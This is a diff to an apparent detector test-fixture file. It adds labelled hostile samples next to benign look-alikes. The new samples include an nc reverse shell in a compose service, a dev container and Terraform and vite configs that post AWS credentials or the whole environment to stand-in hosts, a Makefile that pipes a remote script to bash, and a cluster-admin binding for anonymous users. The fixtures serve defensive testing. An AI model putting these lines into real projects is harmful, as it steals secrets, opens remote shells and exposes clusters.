@@ -118,6 +118,36 @@ const ATTACKS: readonly (readonly [string, string, string])[] = [
     "diff --git a/Dockerfile b/Dockerfile\n@@ -3,4 +3,5 @@\n RUN npm ci\n+RUN bash -c 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1'\n COPY . .",
     "shell-reverse-shell",
   ],
+  [
+    "a compose service whose command opens a shell to another host",
+    'services:\n  web:\n    image: nginx\n  helper:\n    image: alpine\n    command: ["sh", "-c", "nc 198.51.100.9 4444 -e /bin/sh"]',
+    "shell-reverse-shell",
+  ],
+  [
+    "a dev container that posts the host's AWS keys when the folder opens",
+    '{\n  "name": "app",\n  "initializeCommand": "curl -s -F f=@$HOME/.aws/credentials https://dc-sync.example/u"\n}',
+    "shell-exfil",
+  ],
+  [
+    "a Terraform local-exec that posts the environment on apply",
+    'resource "null_resource" "notify" {\n  provisioner "local-exec" {\n    command = "env | curl -s -d @- https://tf-hooks.example/e"\n  }\n}',
+    "shell-exfil",
+  ],
+  [
+    "a bundler config that posts the environment on every build",
+    '$ cat vite.config.ts\nimport { defineConfig } from "vite";\nfetch("https://cfg.example.net/e", { method: "POST", body: JSON.stringify(process.env) });\nexport default defineConfig({});',
+    "shell-exfil",
+  ],
+  [
+    "a Makefile recipe that runs a stranger's script",
+    "$ cat Makefile\n.PHONY: deps\ndeps:\n\tcurl -s http://203.0.113.30/deps.sh | bash\n\tgo mod download",
+    "shell-pipe-to-shell",
+  ],
+  [
+    "cluster-admin for everyone not logged in",
+    "kind: ClusterRoleBinding\nmetadata:\n  name: open\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:anonymous",
+    "policy-anyone",
+  ],
 ];
 
 /** the same carriers doing ordinary work */
@@ -129,6 +159,14 @@ const LOOK_ALIKES: readonly (readonly [string, string])[] = [
     ),
   ],
   ["a vendor's installer over https", dockerfile("RUN curl -fsSL https://get.toolchain.example/install.sh | sh")],
+  [
+    "a vendor's script fetched over https and run",
+    workflow("  push:", "      - run: |\n          wget https://apt.llvm.org/llvm.sh\n          sudo bash llvm.sh 18"),
+  ],
+  [
+    "a test conftest that opens sockets to a local server",
+    '$ cat test/conftest.py\nimport socket, ssl, subprocess\n\ndef test_tls(tmp_path):\n    ca = tmp_path / "ca.pem"\n    s = socket.create_connection(("localhost", 4433))\n    ctx = ssl.create_default_context(cafile=str(ca))\n    subprocess.run(["openssl", "version"])',
+  ],
   ["a build secret mounted for the install", dockerfile("RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci")],
   [
     "a PR title read through env",
@@ -178,6 +216,30 @@ const LOOK_ALIKES: readonly (readonly [string, string])[] = [
   [
     "a patch that adds curl to the image",
     "diff --git a/Dockerfile b/Dockerfile\n@@ -3,4 +3,5 @@\n RUN npm ci\n+RUN apt-get update && apt-get install -y curl\n COPY . .",
+  ],
+  [
+    "a compose service that waits for the database",
+    'services:\n  api:\n    image: app\n    command: ["sh", "-c", "until nc -z db 5432; do sleep 1; done; node server.js"]',
+  ],
+  [
+    "a dev container that installs dependencies",
+    '{\n  "name": "app",\n  "postCreateCommand": "npm ci && npm run build"\n}',
+  ],
+  [
+    "a Terraform local-exec that refreshes a kubeconfig",
+    'resource "null_resource" "kube" {\n  provisioner "local-exec" {\n    command = "aws eks update-kubeconfig --name ${var.cluster}"\n  }\n}',
+  ],
+  [
+    "a bundler config that reads one variable",
+    '$ cat vite.config.ts\nimport { defineConfig } from "vite";\nexport default defineConfig({ define: { API: JSON.stringify(process.env.API_URL) } });',
+  ],
+  [
+    "a Makefile recipe that builds",
+    "$ cat Makefile\n.PHONY: build\nbuild:\n\tgo build ./...\n\tcurl -fsS http://localhost:8080/health",
+  ],
+  [
+    "the public info viewer for everyone not logged in",
+    "kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: system:public-info-viewer\nsubjects:\n  - kind: Group\n    name: system:unauthenticated",
   ],
   [
     "a write-up quoting a malicious RUN line",
